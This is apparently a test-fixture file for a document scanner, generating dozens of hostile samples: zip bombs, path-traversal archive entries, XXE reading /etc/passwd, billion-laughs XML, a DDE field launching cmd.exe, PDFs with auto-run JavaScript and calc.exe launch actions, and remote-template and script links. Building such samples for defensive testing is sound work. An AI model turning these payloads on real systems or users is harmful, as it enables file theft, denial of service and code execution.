import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { strToU8, unzipSync, zipSync } from 'fflate';
import type { Zippable } from 'fflate';
import type { DocumentView, FindingKind } from '../../src/documents/index.ts';
import { oleFile } from './ole.ts';
import { pdfFile, pdfOfPages } from './pdf.ts';
import { pngFile } from './png.ts';

/** A file made to do harm, and how it must end. Where parsers may differ by version several states are right. */
export type Hostile = {
  readonly what: string;
  readonly name: string;
  readonly file: Uint8Array;
  readonly state: DocumentView['state'] | 'any';
  readonly reason?: string;
  readonly recognised?: string;
  readonly finds?: readonly FindingKind[];
  /** Only where programs of the system draw and read it. */
  readonly needsPages?: true;
};

const fixture = (name: string): Buffer => readFileSync(join(import.meta.dirname, '../data/documents', name));
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;

/** Over fifty files; whatever they fetch they would fetch from `address`, and `canary` stands in their text. */
export function hostileFiles(address: string, canary: string): readonly Hostile[] {
  const body = (inner: string): string =>
    `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${inner}<w:p><w:r><w:t>Synthetic ${canary}</w:t></w:r></w:p></w:body></w:document>`;
  const docx = (more: Zippable, inner = ''): Uint8Array =>
    zipSync({ ...unzipSync(fixture('letter.docx')), 'word/document.xml': strToU8(body(inner)), ...more });
  const relations = (...rows: string[]): Uint8Array =>
    strToU8(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`,
    );
  const relation = (type: string, target: string, mode = 'External'): string =>
    `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
  const zeros = deflateRawSync(Buffer.alloc(150_000_000), { level: 9 });
  const picture = `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:imagedata r:id="rId9"/></v:shape></w:pict></w:r></w:p>`;
  const field = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "${address}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const odt = unzipSync(fixture('letter.odt'));
  const content = Buffer.from(odt['content.xml'] ?? []).toString();

  return [
    {
      what: 'a program named like a letter',
      name: 'cv.doc',
      file: bytes(`MZ\x90\0${canary}`),
      state: 'unviewable',
      reason: 'not shown',
      recognised: 'exe',
      finds: ['name differs'],
    },
    {
      what: 'a shortcut named like a letter',
      name: 'cv.pdf',
      file: bytes(`L\0\0\0\x01\x14\x02\0${canary}`),
      state: 'unviewable',
      reason: 'not shown',
      recognised: 'lnk',
      finds: ['name differs'],
    },
    {
      what: 'a letter named like a photograph',
      name: 'me.jpg',
      file: docx({}),
      state: 'viewable',
      recognised: 'docx',
      finds: ['name differs'],
    },
    {
      what: 'a legacy letter named like a new one',
      name: 'cv.docx',
      file: fixture('letter.doc'),
      state: 'viewable',
      recognised: 'doc',
      finds: ['name differs'],
    },
    {
      what: 'the EICAR pattern as text',
      name: 'eicar.txt',
      file: bytes(EICAR),
      state: 'viewable',
      recognised: 'txt',
      finds: ['test virus'],
    },
    {
      what: 'the EICAR pattern named like a letter',
      name: 'cv.doc',
      file: bytes(EICAR),
      state: 'viewable',
      recognised: 'txt',
      finds: ['test virus', 'name differs'],
    },
    {
      what: 'a letter that unpacks to 150 MB',
      name: 'bomb.docx',
      file: rawZip([
        { name: '[Content_Types].xml', data: zeros, says: 150_000_000 },
        { name: 'word/document.xml', data: zeros, says: 150_000_000 },
      ]),
      state: 'refused',
      reason: 'too much inside',
    },
    {
      what: 'a letter that lies about what it unpacks to',
      name: 'liar.docx',
      file: rawZip([
        { name: '[Content_Types].xml', data: deflateRawSync(bytes('<a/>')), says: 4 },
        { name: 'word/document.xml', data: zeros, says: 1000 },
      ]),
      state: 'refused',
      reason: 'too much inside',
    },
    {
      what: 'an archive of 1,500 entries',
      name: 'many.zip',
      file: zipSync(
        Object.fromEntries(Array.from({ length: 1500 }, (_, index) => [`${index}.txt`, strToU8(canary)])),
      ),
      state: 'refused',
      reason: 'too much inside',
    },
    {
      what: 'an archive whose entries share one content, 1.5 GB together',
      name: 'overlap.zip',
      file: rawZip(
        Array.from({ length: 10 }, (_, index) => ({ name: `${index}`, data: zeros, says: 150_000_000 })),
        true,
      ),
      state: 'refused',
      reason: 'too much inside',
    },
    {
      what: 'an archive in an archive in an archive',
      name: 'nested.zip',
      file: zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ 'c.txt': strToU8(canary) }) }) }),
      state: 'unviewable',
      reason: 'not shown',
      finds: ['nested archive'],
    },
    {
      what: 'an archive that would write elsewhere',
      name: 'slip.zip',
      file: zipSync({
        '../../etc/cron.d/x': strToU8(canary),
        '/etc/passwd': strToU8(canary),
        'C:\\x.exe': strToU8(canary),
      }),
      state: 'unviewable',
      reason: 'not shown',
      finds: ['unsafe entry name'],
    },
    {
      what: 'a letter with entries that would write elsewhere',
      name: 'slip.docx',
      file: docx({ '/tmp/absolute.xml': strToU8('<a/>'), '../up.xml': strToU8('<a/>') }),
      state: 'viewable',
      recognised: 'docx',
      finds: ['unsafe entry name'],
    },
    {
      what: 'a letter with a link inside',
      name: 'link.docx',
      file: docx({ 'word/link': [strToU8('/etc/passwd'), { os: 3, attrs: 0o120777 << 16 }] }),
      state: 'viewable',
      finds: ['symbolic link'],
    },
    {
      what: 'a name that reads backwards',
      name: 'cv\u202ecod.exe',
      file: bytes(`Synthetic ${canary}`),
      state: 'viewable',
      finds: ['misleading name', 'name differs'],
    },
    {
      what: 'a name that climbs',
      name: '../../../../tmp/climb.txt',
      file: bytes(`Synthetic ${canary}`),
      state: 'viewable',
      finds: ['misleading name'],
    },
    {
      what: 'a name with control characters',
      name: 'a\u0000\u001b[31m.txt',
      file: bytes(`Synthetic ${canary}`),
      state: 'viewable',
      finds: ['misleading name'],
    },
    { what: 'no bytes', name: 'cv.doc', file: new Uint8Array(), state: 'unviewable', reason: 'empty' },
    {
      what: 'a letter cut off: doc',
      name: 'cut.doc',
      file: fixture('letter.doc').subarray(0, 4000),
      state: 'any',
      recognised: 'ole',
    },
    {
      what: 'a letter cut off: docx',
      name: 'cut.docx',
      file: fixture('letter.docx').subarray(0, 3000),
      state: 'unviewable',
      reason: 'damaged',
      recognised: 'docx',
    },
    {
      what: 'a letter cut off: odt',
      name: 'cut.odt',
      file: fixture('letter.odt').subarray(0, 3000),
      state: 'unviewable',
      reason: 'damaged',
      recognised: 'odt',
    },
    {
      what: 'a letter cut off: pdf',
      name: 'cut.pdf',
      file: fixture('letter.pdf').subarray(0, 9000),
      state: 'any',
      recognised: 'pdf',
    },
    {
      what: 'a letter with a program',
      name: 'macro.docm',
      file: docx({ 'word/vbaProject.bin': oleFile({ VBA: { dir: bytes('x') } }) }),
      state: 'viewable',
      finds: ['macros'],
    },
    {
      what: 'a letter with a template elsewhere',
      name: 'template.docx',
      file: docx({
        'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', `${address}/evil.dotm`)),
      }),
      state: 'viewable',
      finds: ['external template'],
    },
    {
      what: 'a letter with a picture elsewhere',
      name: 'picture.docx',
      file: docx(
        { 'word/_rels/document.xml.rels': relations(relation('image', `${address}/picture.png`)) },
        picture,
      ),
      state: 'viewable',
      finds: ['external link'],
    },
    {
      what: 'a letter with a picture on a share',
      name: 'share.docx',
      file: docx(
        {
          'word/_rels/document.xml.rels': relations(
            relation('image', String.raw`\\127.0.0.1\share\picture.png`),
          ),
        },
        picture,
      ),
      state: 'viewable',
      finds: ['external link'],
    },
    {
      what: 'a letter with a field that fetches',
      name: 'field.docx',
      file: docx({}, field),
      state: 'viewable',
      finds: ['field'],
    },
    {
      what: 'a letter with a field that runs a program',
      name: 'dde.docx',
      file: docx(
        {},
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>',
      ),
      state: 'viewable',
      finds: ['field'],
    },
    {
      what: 'a letter with an object inside',
      name: 'object.docx',
      file: docx({ 'word/embeddings/oleObject1.bin': oleFile({ '\u0001Ole10Native': bytes(canary) }) }),
      state: 'viewable',
      finds: ['embedded object'],
    },
    {
      what: 'a letter of a billion laughs',
      name: 'laughs.docx',
      file: docx({
        'word/document.xml': strToU8(
          `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "${'ha'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">]><a>&c;</a>`,
        ),
      }),
      state: 'unviewable',
      reason: 'entities',
    },
    {
      what: 'a letter with an entity from a file, in UTF-16',
      name: 'xxe.docx',
      file: docx({
        'word/document.xml': Buffer.from(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "${address}/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
          'utf16le',
        ),
      }),
      state: 'unviewable',
      reason: 'entities',
    },
    {
      what: 'a letter nested 100,000 deep',
      name: 'deep.docx',
      file: docx({ 'word/document.xml': strToU8(body('<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000))) }),
      state: 'any',
      recognised: 'docx',
    },
    {
      what: 'a letter without its text',
      name: 'hollow.docx',
      file: zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/a.xml': strToU8('<a/>') }),
      state: 'unviewable',
      reason: 'damaged',
    },
    {
      what: 'a letter with a password',
      name: 'locked.docx',
      file: oleFile({ EncryptedPackage: Buffer.alloc(5000, 7), EncryptionInfo: bytes('x') }),
      state: 'unviewable',
      reason: 'locked',
    },
    {
      what: 'a drawing with a script',
      name: 'a.svg',
      file: bytes(
        `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${address}/svg")</script><image href="${address}/svg.png"/></svg>`,
      ),
      state: 'unviewable',
      reason: 'not shown',
      recognised: 'svg',
      finds: ['script', 'external link'],
    },
    {
      what: 'a page with a script',
      name: 'cv.doc',
      file: bytes(`<html><script src="${address}/a.js"></script><img src="${address}/a.png"></html>`),
      state: 'unviewable',
      reason: 'not shown',
      recognised: 'html',
      finds: ['script', 'external link', 'name differs'],
    },
    {
      what: 'a PDF of 10,000 pages',
      name: 'long.pdf',
      file: pdfOfPages(10_000),
      state: 'viewable',
      finds: ['pages shortened'],
      needsPages: true,
    },
    {
      what: 'a PDF of 10,001 pages',
      name: 'longer.pdf',
      file: pdfOfPages(10_001),
      state: 'refused',
      reason: 'too many pages',
      needsPages: true,
    },
    {
      what: 'a PDF whose pages hold themselves',
      name: 'loop.pdf',
      file: pdfFile([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9000 >>',
      ]),
      state: 'any',
    },
    {
      what: 'a PDF with a page of 200 inches',
      name: 'wide.pdf',
      file: pdfOfPages(1, '0 0 14400 14400'),
      state: 'viewable',
      needsPages: true,
    },
    {
      what: 'a PDF whose page unpacks to 150 MB',
      name: 'stream.pdf',
      file: pdfFile([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>',
        streamOf(deflateSync(Buffer.alloc(150_000_000, ' '))),
      ]),
      state: 'any',
    },
    {
      what: 'a PDF with a script, a program, an address and an attachment',
      name: 'active.pdf',
      file: pdfFile([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}/js"\\)) >> /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${address}/uri) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>] >>`,
        '<< /Type /Filespec /F (a) >>',
      ]),
      state: 'viewable',
      finds: ['script', 'launch', 'external link', 'attached file', 'opens by itself'],
      needsPages: true,
    },
    {
      what: 'a PDF that hides the names of its actions',
      name: 'hidden.pdf',
      file: pdfFile([
        '<< /Type /Catalog /Pages 2 0 R /#4fpenAction 4 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
        '<< /S /Java#53cript /J#53 (1) >>',
        streamOf(deflateSync(bytes('9 0 << /S /Launch /F (calc.exe) >>')), '/Type /ObjStm /N 1 /First 4'),
      ]),
      state: 'viewable',
      finds: ['script', 'launch', 'opens by itself'],
      needsPages: true,
    },
    {
      what: 'a PDF that is an archive too',
      name: 'both.pdf',
      file: Buffer.concat([fixture('letter.pdf'), zipSync({ 'evil.exe': strToU8(canary) })]),
      state: 'viewable',
      finds: ['two formats'],
      needsPages: true,
    },
    {
      what: 'an archive that is a PDF too',
      name: 'both.zip',
      file: zipSync({ 'a.pdf': [pdfOfPages(1), { level: 0 }] }),
      state: 'unviewable',
      finds: ['two formats'],
    },
    {
      what: 'an RTF with an object, a template and a field',
      name: 'object.rtf',
      file: bytes(
        `{\\rtf1\\ansi{\\*\\template ${address}/t.dotm}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/rtf.png" \\\\d}{\\fldrslt}}Synthetic ${canary}\\par}`,
      ),
      state: 'viewable',
      recognised: 'rtf',
      finds: ['embedded object', 'external template', 'field'],
    },
    {
      what: 'an RTF of a million open groups',
      name: 'deep.rtf',
      file: bytes(`{\\rtf1 Synthetic ${'{'.repeat(1_000_000)}`),
      state: 'any',
      recognised: 'rtf',
    },
    {
      what: 'a legacy letter with a program that is none',
      name: 'macro.doc',
      file: oleFile({
        WordDocument: Buffer.alloc(5000),
        '1Table': Buffer.alloc(5000),
        Macros: { VBA: { dir: bytes('x') } },
      }),
      state: 'any',
      recognised: 'doc',
      finds: ['macros'],
    },
    { what: 'an OLE file whose directory is a circle', name: 'circle.doc', file: circle(), state: 'any' },
    {
      what: 'an OLE file whose table is a circle',
      name: 'table.doc',
      file: tableCircle(),
      state: 'unviewable',
    },
    {
      what: 'a Hangul document with a script',
      name: 'script.hwp',
      file: oleFile({
        FileHeader: bytes('HWP Document File'.padEnd(256, '\0')),
        DocInfo: bytes('x'),
        Scripts: { DefaultJScript: bytes('x') },
        BinData: { 'BIN0001.eps': bytes('%!PS') },
        PrvText: Buffer.from(`Synthetic ${canary}`, 'utf16le'),
      }),
      state: 'viewable',
      finds: ['script', 'embedded object', 'preview only'],
    },
    {
      what: 'an OpenDocument text with a picture elsewhere and a program',
      name: 'macro.odt',
      file: zipSync({
        ...odt,
        'Basic/Standard/Module1.xml': strToU8('<a/>'),
        'META-INF/manifest.xml': strToU8(
          Buffer.from(odt['META-INF/manifest.xml'] ?? [])
            .toString()
            .replace(
              '</manifest:manifest>',
              '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>',
            ),
        ),
        'content.xml': strToU8(
          content.replace(
            '</office:text>',
            `<text:p><draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char"><draw:image xlink:href="${address}/odt.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="S"><text:section-source xlink:href="${address}/section.odt" xlink:type="simple"/><text:p/></text:section></office:text>`,
          ),
        ),
      }),
      state: 'viewable',
      recognised: 'odt',
      finds: ['external link', 'macros'],
    },
    {
      what: 'an image of 900 million pixels',
      name: 'pixels.png',
      file: pngFile(30_000, 30_000, deflateSync(Buffer.alloc(1000))),
      state: 'refused',
      reason: 'too many pixels',
    },
    {
      what: 'an image of 100 million pixels that holds a thousand',
      name: 'hollow.png',
      file: pngFile(10_000, 10_000, deflateSync(Buffer.alloc(1000))),
      state: 'unviewable',
      reason: 'damaged',
    },
    {
      what: 'an image that unpacks to more than its pixels',
      name: 'more.png',
      file: pngFile(10, 10, deflateSync(Buffer.alloc(150_000_000))),
      state: 'viewable',
    },
    {
      what: 'a photograph of four thousand million pixels',
      name: 'pixels.jpg',
      file: bytes('\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x11\0\x02\x11\0\x03\x11\0'),
      state: 'refused',
      reason: 'too many pixels',
    },
    {
      what: 'a line of 20 million letters',
      name: 'line.txt',
      file: Buffer.alloc(20_000_000, 'Synthetic '),
      state: 'viewable',
      finds: ['text shortened'],
    },
    {
      what: 'bytes that are no UTF-8',
      name: 'bad.txt',
      file: Buffer.concat([bytes('Synthetic '), Buffer.of(0xff, 0xfe, 0xc0, 0xaf, 0x80, 0x81)]),
      state: 'any',
    },
    {
      what: 'text with zero bytes',
      name: 'zero.txt',
      file: bytes(`Synthetic\0${canary}`),
      state: 'unviewable',
      recognised: 'unknown',
    },
    {
      what: 'text that turns its direction',
      name: 'turn.txt',
      file: Buffer.from(`Synthetic \u202etxet ${canary}`),
      state: 'viewable',
      finds: ['hidden direction'],
    },
    {
      what: 'noise',
      name: 'noise.doc',
      file: Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919 + (index >> 3)) & 255)),
      state: 'unviewable',
    },
  ];
}

function streamOf(data: Buffer, more = ''): Buffer {
  return Buffer.concat([
    bytes(`<< /Length ${data.length} /Filter /FlateDecode ${more} >>\nstream\n`),
    data,
    bytes('\nendstream'),
  ]);
}

/** A ZIP archive that says what it is told to say; with `isShared` all entries point at the content of the first. */
function rawZip(entries: readonly { name: string; data: Buffer; says: number }[], isShared = false): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  let first = 0;
  for (const [index, { name, data, says }] of entries.entries()) {
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x0403_4b50, 0);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(data.length, 18);
    head.writeUInt32LE(says, 22);
    head.writeUInt16LE(name.length, 26);
    const start = isShared && index > 0 ? first : at;
    if (index === 0 || !isShared) {
      parts.push(head, bytes(name), data);
      first = at;
      at += 30 + name.length + data.length;
    }
    const row = Buffer.alloc(46);
    row.writeUInt32LE(0x0201_4b50, 0);
    row.writeUInt16LE(8, 10);
    row.writeUInt32LE(data.length, 20);
    row.writeUInt32LE(says, 24);
    row.writeUInt16LE(name.length, 28);
    row.writeUInt32LE(start, 42);
    central.push(row, bytes(name));
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x0605_4b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...parts, directory, end]);
}

/** Every entry of its directory is its own neighbour and child. */
function circle(): Buffer {
  const file = oleFile({ WordDocument: Buffer.alloc(5000), a: { b: bytes('x') } });
  const start = (file.readUInt32LE(48) + 1) * 512;
  for (let index = 1; index < 4; index += 1)
    for (const field of [68, 72, 76]) file.writeUInt32LE(index, start + index * 128 + field);
  return file;
}

function tableCircle(): Buffer {
  const file = oleFile({ WordDocument: Buffer.alloc(5000) });
  const table = (file.readUInt32LE(76) + 1) * 512;
  for (let index = 0; index < 20; index += 1) file.writeUInt32LE(0, table + index * 4);
  return file;
}
